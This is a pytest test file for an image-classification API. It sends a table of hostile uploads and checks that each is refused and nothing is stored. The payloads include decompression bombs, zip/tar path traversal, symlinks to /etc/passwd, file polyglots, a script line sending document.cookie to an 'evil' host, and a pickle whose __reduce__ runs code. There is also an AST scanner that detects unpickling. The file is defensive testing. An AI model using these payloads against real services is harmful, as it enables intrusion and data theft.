"""A corpus of hostile uploads, generated here, each refused with the right 4xx and a clear message,
with nothing stored (no rows, no files) and no code of the attacker run (a marker file a pickle's
``__reduce__`` would create never appears). Also: stored dataset images are re-encoded without
their metadata, and the code base never unpickles (an AST scan of every Python source).

The corpus is one table (``HOSTILE``) of (endpoint, payload builder, status, message). It runs here
against the ASGI app on SQLite; tests/test_faults.py sends the same table to the full stack.
"""

from __future__ import annotations

import ast
import asyncio
import io
import json
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi.testclient import TestClient
from PIL import Image
from sqlalchemy import func, select
from test_api import zip_bytes

from app.core.settings import Settings
from app.db.migrate import upgrade
from app.db.tables import Base
from app.main import create_app
from app.services import images

# As in the service processes (images.enforce_pixel_limit): Pillow's bomb warning is an error.
pytestmark = pytest.mark.filterwarnings("error::PIL.Image.DecompressionBombWarning")

ROOT = Path(__file__).resolve().parents[1]
API = "/api/v1"
# Limits of the app under test (small, so the bombs and the oversized body stay cheap to build).
LIMITS: dict[str, Any] = {
    "max_upload_mb": 2,
    "max_image_mb": 1,
    "max_archive_entries": 200,
    "max_archive_extracted_mb": 8,
    "max_image_pixels": 25_000_000,
}
CLASSES = ("bcc", "mel", "nv")


# ============================================================================ builders
def noise_image(fmt: str, size: tuple[int, int] = (48, 40), **save: Any) -> bytes:
    buf = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(buf, format=fmt, **save)
    return buf.getvalue()


def png_chunk(kind: bytes, payload: bytes) -> bytes:
    crc = zlib.crc32(kind + payload) & 0xFFFFFFFF
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", crc)


def bomb_png_header(width: int = 100_000, height: int = 100_000) -> bytes:
    """A few dozen bytes declaring 10 Gpx: the limit must act on the header, before decoding."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\0" * 1024)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


def bomb_png_real(side: int = 5200) -> bytes:
    """A real 27 Mpx image in ~4 KB: over our limit, under Pillow's own (89 Mpx, a warning)."""
    buf = io.BytesIO()
    Image.new("1", (side, side)).save(buf, format="PNG")
    return buf.getvalue()


def targz_bytes(
    files: dict[str, bytes], links: dict[str, tuple[bytes, str]] | None = None
) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
        for name, (kind, target) in (links or {}).items():
            info = tarfile.TarInfo(name)
            info.type = kind
            info.linkname = target
            tf.addfile(info)
    return buf.getvalue()


def ham_files(per_class: int = 3, rows: list[str] | None = None) -> dict[str, bytes]:
    """A valid tiny dataset in the HAM10000 layout; ``rows`` adds lines to labels.csv."""
    lines = ["image_id,dx,lesion_id"]
    files: dict[str, bytes] = {}
    for c, dx in enumerate(CLASSES):
        for i in range(per_class):
            image_id = f"ISIC_{c:02d}{i:05d}"
            lines.append(f"{image_id},{dx},HAM_{c:02d}{i:05d}")
            files[f"images/{image_id}.jpg"] = noise_image("JPEG")
    lines += rows or []
    files["labels.csv"] = ("\n".join(lines) + "\n").encode()
    return files


def with_image(name: str, data: bytes) -> dict[str, bytes]:
    """The valid dataset with one image replaced (``name`` under images/)."""
    return {**ham_files(), f"images/{name}": data}


def png_with_zip() -> bytes:
    """A polyglot: a valid PNG and, read from its end, a valid zip."""
    data = noise_image("PNG") + zip_bytes({"payload.html": b"<script>alert(1)</script>"})
    assert zipfile.is_zipfile(io.BytesIO(data)) and data.startswith(b"\x89PNG")
    return data


def jpeg_with_html() -> bytes:
    return noise_image("JPEG") + b"<html><script>fetch('//evil/'+document.cookie)</script></html>"


def truncated(fmt: str) -> bytes:
    data = noise_image(fmt, (128, 128))
    return data[: len(data) // 2]


class Marker:
    """Set by the fixture: the file a hostile pickle would create when unpickled."""

    path = Path("/nonexistent")


class _Evil:
    """Unpickling calls ``open(marker, "w")``: a file appears, proving code ran."""

    def __reduce__(self) -> tuple[Any, tuple[str, str]]:
        return (open, (str(Marker.path), "w"))


def evil_pickle() -> bytes:
    return pickle.dumps({"state_dict": _Evil()}, protocol=2)


def evil_torch_save() -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save({"weight": torch.zeros(2), "payload": _Evil()}, buf)
    return buf.getvalue()


def safetensors_header(
    header: dict[str, Any], data: bytes = b"", length: int | None = None
) -> bytes:
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw) if length is None else length) + raw + data


# ============================================================================ the corpus
@dataclass(frozen=True)
class Hostile:
    endpoint: str  # "dataset" | "model" | "predict"
    build: Callable[[], bytes]
    status: int
    message: str
    filename: str = "upload.bin"
    content_type: str = "application/octet-stream"


SMALL_MODEL = {"architecture": "small_cnn", "classes": list(CLASSES), "image_size": 32}

HOSTILE: dict[str, Hostile] = {
    # ---- images sent for prediction (content decides, never the name or declared type)
    "bomb png header (10 Gpx)": Hostile("predict", bomb_png_header, 413, "pixels", "x.png"),
    "bomb png 27 Mpx in 4 KB": Hostile("predict", bomb_png_real, 413, "pixels", "x.png"),
    "truncated jpeg": Hostile("predict", lambda: truncated("JPEG"), 422, "truncated", "x.jpg"),
    "truncated png": Hostile("predict", lambda: truncated("PNG"), 422, "truncated", "x.png"),
    "polyglot png+zip": Hostile("predict", png_with_zip, 422, "after its end", "x.png"),
    "polyglot jpeg+html": Hostile("predict", jpeg_with_html, 422, "after its end", "x.jpg"),
    "html as image/jpeg .jpg": Hostile(
        "predict",
        lambda: b"<!doctype html><script>alert(1)</script>",
        415,
        "not a JPEG or PNG",
        "lesion.jpg",
        "image/jpeg",
    ),
    "svg as image/jpeg .jpg": Hostile(
        "predict",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        415,
        "not a JPEG or PNG",
        "lesion.jpg",
        "image/jpeg",
    ),
    "zip as image/jpeg .jpg": Hostile(
        "predict", lambda: zip_bytes({"a": b"b"}), 415, "not a JPEG or PNG", "x.jpg", "image/jpeg"
    ),
    "gif as image/jpeg .jpg": Hostile(
        "predict", lambda: noise_image("GIF"), 415, "not a JPEG or PNG", "x.jpg", "image/jpeg"
    ),
    "jpeg magic then junk": Hostile(
        "predict", lambda: b"\xff\xd8\xff\xe0" + b"\x07" * 400, 422, "truncated or corrupt", "x.jpg"
    ),
    "oversized image (declared 1 MB limit)": Hostile(
        "predict", lambda: b"\xff\xd8\xff" + b"\0" * (LIMITS["max_image_mb"] << 20), 413, "limit"
    ),
    # ---- dataset archives
    "zip slip ../": Hostile(
        "dataset", lambda: zip_bytes({**ham_files(), "../evil.txt": b"x"}), 422, "'..'"
    ),
    "zip slip nested": Hostile(
        "dataset", lambda: zip_bytes({**ham_files(), "images/../../../evil.txt": b"x"}), 422, "'..'"
    ),
    "zip absolute path": Hostile(
        "dataset", lambda: zip_bytes({**ham_files(), "/tmp/evil.txt": b"x"}), 422, "absolute"
    ),
    "tar slip ../": Hostile(
        "dataset", lambda: targz_bytes({**ham_files(), "../evil.txt": b"x"}), 422, "'..'"
    ),
    "tar absolute path": Hostile(
        "dataset", lambda: targz_bytes({**ham_files(), "/tmp/evil.txt": b"x"}), 422, "absolute"
    ),
    "zip symlink entry": Hostile(
        "dataset", lambda: zip_bytes(ham_files(), {"images/link.jpg": "/etc/passwd"}), 422, "link"
    ),
    "tar symlink entry": Hostile(
        "dataset",
        lambda: targz_bytes(ham_files(), {"images/l.jpg": (tarfile.SYMTYPE, "/etc/passwd")}),
        422,
        "link",
    ),
    "tar hardlink entry": Hostile(
        "dataset",
        lambda: targz_bytes(ham_files(), {"images/h.jpg": (tarfile.LNKTYPE, "/etc/passwd")}),
        422,
        "link",
    ),
    "zip bomb (64 MB of zeros in ~64 KB)": Hostile(
        "dataset",
        lambda: zip_bytes({**ham_files(), "images/z.png": b"\0" * (64 << 20)}),
        413,
        "expands to more than",
    ),
    "zip bomb (entry count)": Hostile(
        "dataset",
        lambda: zip_bytes({f"images/e{i}.txt": b"" for i in range(1000)}),
        413,
        "more than 200 entries",
    ),
    "oversized archive body": Hostile(
        "dataset", lambda: b"PK\x03\x04" + bytes(3 << 20), 413, "limit of 2 MB"
    ),
    "png+zip polyglot as archive": Hostile("dataset", png_with_zip, 415, "zip or .tar.gz"),
    "torch.save pickle as archive": Hostile("dataset", evil_torch_save, 422, "not a dataset"),
    "bomb image inside dataset": Hostile(
        "dataset", lambda: zip_bytes(with_image("ISIC_0000000.jpg", bomb_png_real())), 413, "pixels"
    ),
    "polyglot image inside dataset": Hostile(
        "dataset",
        lambda: zip_bytes(with_image("ISIC_0000000.jpg", jpeg_with_html())),
        422,
        "ISIC_0000000.jpg: the image has",
    ),
    "truncated image inside dataset": Hostile(
        "dataset",
        lambda: zip_bytes(with_image("ISIC_0000000.jpg", truncated("JPEG"))),
        422,
        "truncated",
    ),
    "html named .jpg inside dataset": Hostile(
        "dataset",
        lambda: zip_bytes(with_image("ISIC_0000000.jpg", b"<html><script></script></html>")),
        422,
        "not a JPEG or PNG",
    ),
    "csv unknown class": Hostile(
        "dataset",
        lambda: zip_bytes(ham_files(rows=["ISIC_0000000x,melanoma,HAM_1"])),
        422,
        "unknown class (1)",
    ),
    "csv missing image": Hostile(
        "dataset",
        lambda: zip_bytes(ham_files(rows=["ISIC_9999999,nv,HAM_9"])),
        422,
        "missing image (1): line 11 ISIC_9999999",
    ),
    "csv duplicate image_id": Hostile(
        "dataset",
        lambda: zip_bytes(ham_files(rows=["ISIC_0000000,nv,HAM_1"])),
        422,
        "duplicate image_id (1)",
    ),
    "csv image_id with a path": Hostile(
        "dataset",
        lambda: zip_bytes(ham_files(rows=["../../../etc/passwd,nv,HAM_1"])),
        422,
        "bad image_id (1)",
    ),
    # ---- model weights: safetensors only, a pickle is never opened
    "pickle named .safetensors": Hostile(
        "model", evil_pickle, 415, "not a safetensors file", "weights.safetensors"
    ),
    "torch.save named .safetensors": Hostile(
        "model", evil_torch_save, 415, "not a safetensors file", "weights.safetensors"
    ),
    "safetensors huge header length": Hostile(
        "model", lambda: safetensors_header({}, length=1 << 62), 415, "bad header length"
    ),
    "safetensors overlapping tensors": Hostile(
        "model",
        lambda: safetensors_header(
            {
                "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                "b": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
            },
            bytes(8),
        ),
        422,
        "overlaps",
    ),
    "oversized weights body": Hostile("model", lambda: bytes(3 << 20), 413, "limit of 2 MB"),
}


def send(
    client: httpx.Client | TestClient, url: Callable[[str], str], case: Hostile, model_id: str
) -> httpx.Response:
    """Upload one hostile payload the way a client would."""
    data = case.build()
    if case.endpoint == "predict":
        return client.post(
            url(f"/models/{model_id}/predict"),
            files={"file": (case.filename, data, case.content_type)},
        )
    if case.endpoint == "model":
        return client.post(
            url("/models"),
            files={"weights": (case.filename, data, case.content_type)},
            data={"description": json.dumps(SMALL_MODEL)},
        )
    return client.post(url("/datasets"), files={"file": ("data.zip", data, case.content_type)})


# ============================================================================ the app
@dataclass
class App:
    client: TestClient
    root: Path

    def url(self, path: str) -> str:
        return f"{API}{path}"

    def state(self) -> tuple[dict[str, int], set[str]]:
        """Row counts of every table and every file under the artifact store."""
        with self.client.app.state.sessionmaker() as s:  # type: ignore[attr-defined]
            counts = {
                t.name: int(s.scalar(select(func.count()).select_from(t)) or 0)
                for t in Base.metadata.sorted_tables
            }
        files = {str(p.relative_to(self.root)) for p in self.root.rglob("*")}
        return counts, files


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[App]:
    tmp = tmp_path_factory.mktemp("hostile")
    url = f"sqlite:///{tmp / 'h.db'}"
    upgrade(url)
    settings = Settings(
        database_url=url,
        artifact_dir=tmp / "artifacts",
        data_roots=[tmp],
        auth="off",
        **LIMITS,
    )
    with TestClient(create_app(settings, dispatcher=lambda job_id, kind: None)) as client:
        yield App(client, tmp / "artifacts")


@pytest.fixture(scope="module")
def model_id(app: App) -> str:
    """A real small model: an image that got past the checks would reach it (and succeed)."""
    from safetensors.torch import save_model

    from models.nets import build_model

    path = app.root.parent / "w.safetensors"
    save_model(build_model("small_cnn", len(CLASSES)), str(path))
    weights = path.read_bytes()
    r = app.client.post(
        app.url("/models"),
        files={"weights": ("w.safetensors", weights, "application/octet-stream")},
        data={"description": json.dumps(SMALL_MODEL)},
    )
    assert r.status_code == 201, r.text
    return str(r.json()["id"])


@pytest.fixture(autouse=True)
def marker(tmp_path: Path) -> Iterator[Path]:
    Marker.path = tmp_path / "PWNED"
    yield Marker.path
    assert not Marker.path.exists(), "a hostile pickle was unpickled"


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_upload_is_refused_and_nothing_is_stored(
    app: App, model_id: str, name: str
) -> None:
    case = HOSTILE[name]
    before = app.state()
    r = send(app.client, app.url, case, model_id)
    assert r.status_code == case.status, r.text
    detail = r.json()["detail"]
    assert isinstance(detail, str) and case.message in detail, detail
    assert app.state() == before
    assert not (app.root.parent / "evil.txt").exists() and not Path("/tmp/evil.txt").exists()
    assert not Marker.path.exists()


def test_the_corpus_is_not_refused_by_accident(app: App, model_id: str) -> None:
    """The valid counterparts are accepted: each refusal above is about the hostile part."""
    r = app.client.post(
        app.url(f"/models/{model_id}/predict"),
        params={"steps": 1, "eps": [1]},
        files={"file": ("lesion.jpg", noise_image("PNG"), "image/jpeg")},  # a PNG named .jpg: fine
    )
    assert r.status_code == 200, r.text
    r = app.client.post(
        app.url("/datasets"), files={"file": ("d.zip", zip_bytes(ham_files()), "application/zip")}
    )
    assert r.status_code == 201, r.text
    assert app.client.delete(app.url(f"/datasets/{r.json()['id']}")).status_code == 204


def test_csv_report_lists_every_rejected_row(app: App) -> None:
    rows = [
        "ISIC_0000001,nv,HAM_1",  # duplicate of a valid row
        "ISIC_7777777,melanoma,HAM_7",  # unknown class and no image
        "ISIC_8888888,nv,HAM_8",  # no image
        ",nv,HAM_0",  # no image_id
    ]
    before = app.state()
    r = app.client.post(
        app.url("/datasets"),
        files={"file": ("d.zip", zip_bytes(ham_files(rows=rows)), "application/zip")},
    )
    assert r.status_code == 422
    detail = r.json()["detail"]
    assert detail.startswith("labels.csv: 4 row(s) rejected, nothing was stored;"), detail
    assert "duplicate image_id (1): line 11 ISIC_0000001 (first on line 3)" in detail
    assert "unknown class (1): line 12 ISIC_7777777: 'melanoma'" in detail
    assert "missing image (2): line 12 ISIC_7777777, line 13 ISIC_8888888" in detail
    assert "bad image_id (1): line 14 ''" in detail
    assert "allowed classes: akiec, bcc, bkl, df, mel, nv, vasc" in detail
    assert app.state() == before


def test_non_finite_json_numbers_are_a_422_not_a_500(app: App) -> None:
    """Python's JSON parser reads ``NaN``/``Infinity``; the 422 that echoes them must still render
    (found by bench/fuzz_api.py: it was an unhandled error)."""
    before = app.state()
    r = app.client.post(
        app.url("/models"),
        files={"weights": ("w.safetensors", b"", "application/octet-stream")},
        data={"description": "Infinity"},
    )
    assert r.status_code == 422 and r.json()["detail"][0]["input"] == "inf", r.text
    for literal in ("NaN", "Infinity", "-Infinity"):
        r = app.client.post(
            app.url("/jobs/train"),
            content=b'{"config": {"eps_max": %s}}' % literal.encode(),
            headers={"content-type": "application/json"},
        )
        assert r.status_code == 422 and r.json()["detail"][0]["loc"][-1] == "eps_max", r.text
    # A body that is not UTF-8: the 422 echoes it decoded with replacement (found by the CI
    # run of tests/test_api_fuzz.py on POST /audits: rendering the raw bytes was a 500).
    for path in ("/audits", "/jobs/train"):
        r = app.client.post(
            app.url(path), content=b"\x80", headers={"content-type": "application/json"}
        )
        assert r.status_code in (400, 422) and r.json()["detail"], r.text  # FastAPI: 400
    assert app.state() == before


def test_oversized_body_is_refused_before_it_is_read(app: App) -> None:
    """A chunked upload with no Content-Length: the app stops reading at the limit. Driven at the
    ASGI level so the test counts exactly how many chunks the server pulled."""
    chunk, total = 64 << 10, 64 << 20  # a 64 MB body for a 2 MB limit
    pulled = 0
    sent: list[dict[str, Any]] = []

    head = (
        b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.zip"\r\n'
        b"Content-Type: application/octet-stream\r\n\r\n"
    )

    async def receive() -> dict[str, Any]:
        nonlocal pulled
        pulled += 1
        body = (head if pulled == 1 else b"") + b"\0" * chunk
        return {"type": "http.request", "body": body, "more_body": pulled * chunk < total}

    async def send_(message: dict[str, Any]) -> None:
        sent.append(message)

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": f"{API}/datasets",
        "raw_path": f"{API}/datasets".encode(),
        "query_string": b"",
        "root_path": "",
        "headers": [(b"content-type", b"multipart/form-data; boundary=x"), (b"host", b"t")],
        "client": ("127.0.0.1", 1),
        "server": ("t", 80),
        "app": app.client.app,
    }
    before = app.state()
    asyncio.run(app.client.app(scope, receive, send_))  # type: ignore[arg-type]
    status = next(m["status"] for m in sent if m["type"] == "http.response.start")
    body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
    assert status == 413 and b"limit of 2 MB" in body, body
    assert pulled * chunk <= (LIMITS["max_upload_mb"] << 20) + 2 * chunk, pulled  # ~2 of 64 MB
    print(f"\nchunked 64 MB body: refused after {pulled} chunks of 64 KB")
    # A declared Content-Length over the limit: refused before a single body byte is pulled.
    pulled, sent = 0, []
    scope["headers"] = [*scope["headers"], (b"content-length", str(total).encode())]
    asyncio.run(app.client.app(scope, receive, send_))  # type: ignore[arg-type]
    assert sent[0]["status"] == 413 and pulled == 0
    assert app.state() == before


# ============================================================================ re-encoding
def exif_jpeg(colour_seed: int = 0) -> bytes:
    im = Image.effect_noise((64, 48), 50 + colour_seed).convert("RGB")
    exif = Image.Exif()
    exif[0x010F] = "SecretCam"  # Make
    exif[0x013B] = "Dr. Patient Name"  # Artist
    exif[0x0112] = 1  # Orientation: upright
    buf = io.BytesIO()
    im.save(
        buf,
        format="JPEG",
        exif=exif.tobytes(),
        quality=90,
        icc_profile=b"\0" * 128,
        comment=b"hidden",
    )
    return buf.getvalue()


def text_png() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", "patient id 12345")
    buf = io.BytesIO()
    Image.effect_noise((40, 40), 50).convert("RGB").save(buf, format="PNG", pnginfo=info)
    return buf.getvalue()


def test_stored_dataset_images_are_reencoded_without_metadata(app: App) -> None:
    files = {f"mel/m{i}.jpg": exif_jpeg(i) for i in range(3)}
    files |= {f"nv/n{i}.png": text_png() for i in range(3)}
    files["nv/notes.html"] = b"<script>alert(1)</script>"  # not an image: not stored
    files[".hidden"] = b"x"
    r = app.client.post(
        app.url("/datasets"), files={"file": ("d.zip", zip_bytes(files), "application/zip")}
    )
    assert r.status_code == 201, r.text
    stored = app.root / "datasets" / r.json()["id"] / "data"
    names = sorted(str(p.relative_to(stored)) for p in stored.rglob("*") if p.is_file())
    assert names == [*(f"mel/m{i}.jpg" for i in range(3)), *(f"nv/n{i}.png" for i in range(3))]
    for name in names:
        raw = (stored / name).read_bytes()
        assert b"SecretCam" not in raw and b"Patient" not in raw and b"patient" not in raw
        assert b"Exif" not in raw and b"hidden" not in raw and b"ICC_PROFILE" not in raw
        with Image.open(stored / name) as im, Image.open(io.BytesIO(files[name])) as orig:
            assert dict(im.getexif()) == {} and "icc_profile" not in im.info
            assert im.format == orig.format and im.size == orig.size and im.mode == orig.mode
            a, b = im.convert("RGB").tobytes(), orig.convert("RGB").tobytes()
            if im.format == "PNG":
                assert a == b  # lossless: the very same pixels
            else:  # JPEG with the original quantization tables: a rounding difference at most
                mean = sum(abs(x - y) for x, y in zip(a, b, strict=True)) / len(a)
                assert mean < 1.5, mean
    assert app.client.delete(app.url(f"/datasets/{r.json()['id']}")).status_code == 204


def test_prediction_images_are_reencoded_without_metadata() -> None:
    out = images.sanitize_image(exif_jpeg(), max_bytes=1 << 20, max_pixels=1 << 20)
    assert out.startswith(b"\x89PNG") and b"SecretCam" not in out and b"hidden" not in out
    with Image.open(io.BytesIO(out)) as im:
        assert dict(im.getexif()) == {} and not im.text and im.size == (64, 48)  # type: ignore[attr-defined]


def test_padding_after_the_end_is_not_a_polyglot() -> None:
    """Some encoders pad files with zeros: only other content counts as hidden data."""
    for fmt in ("JPEG", "PNG"):
        images.check_no_trailing_data(noise_image(fmt) + b"\0" * 64, fmt)
    jpeg = exif_jpeg()  # an EXIF thumbnail's end marker sits inside APP1 and is skipped
    images.check_no_trailing_data(jpeg, "JPEG")


# ========================================================================= no unpickling anywhere
SCANNED = ("app", "worker", "models", "bench", "migrations", "tests")
# Module attributes that unpickle (``np.load`` only with ``allow_pickle=True``, checked apart).
UNPICKLERS = {
    ("pickle", "load"),
    ("pickle", "loads"),
    ("pickle", "Unpickler"),
    ("cloudpickle", "load"),
    ("cloudpickle", "loads"),
    ("dill", "load"),
    ("dill", "loads"),
    ("joblib", "load"),
    ("torch", "load"),  # allowed only with weights_only=True
}


def _dotted(node: ast.AST) -> tuple[str, str] | None:
    if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
        return node.value.id, node.attr
    return None


def _keyword_true(call: ast.Call, name: str) -> bool:
    return any(
        k.arg == name and isinstance(k.value, ast.Constant) and k.value.value is True
        for k in call.keywords
    )


def unpickling_calls(source: str, filename: str) -> list[str]:
    """Every call in ``source`` that can unpickle: ``torch.load`` without a literal
    ``weights_only=True``, ``pickle.load(s)`` and friends, ``np.load(allow_pickle=True)``, and the
    same functions imported by name (``from pickle import loads``)."""
    tree = ast.parse(source, filename)
    imported: dict[str, tuple[str, str]] = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module:
            for alias in node.names:
                imported[alias.asname or alias.name] = (node.module.split(".")[0], alias.name)
    found = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        target = _dotted(node.func)
        if isinstance(node.func, ast.Name) and node.func.id in imported:
            target = imported[node.func.id]
        if target is None:
            continue
        bad = target in UNPICKLERS and not (
            target == ("torch", "load") and _keyword_true(node, "weights_only")
        )
        bad |= target in {("np", "load"), ("numpy", "load")} and _keyword_true(node, "allow_pickle")
        if bad:
            found.append(f"{filename}:{node.lineno}: {'.'.join(target)}(...)")
    return found


def test_the_scanner_finds_what_it_must() -> None:
    source = (
        "import torch, pickle\nfrom pickle import loads as l\n"
        "torch.load('x')\ntorch.load('x', weights_only=False)\npickle.loads(b'')\nl(b'')\n"
        "torch.load('x', weights_only=True)\nnp.load('a', allow_pickle=True)\n"
    )
    found = unpickling_calls(source, "t.py")
    assert [f.split(":")[1] for f in found] == ["3", "4", "5", "6", "8"]


def test_no_unpickling_in_the_code_base() -> None:
    """No source file (this test's own hostile builders only *dump* pickles) loads a pickle."""
    found: list[str] = []
    for top in SCANNED:
        for path in sorted((ROOT / top).rglob("*.py")):
            found += unpickling_calls(path.read_text(), str(path.relative_to(ROOT)))
    assert found == [], "unpickling calls:\n" + "\n".join(found)
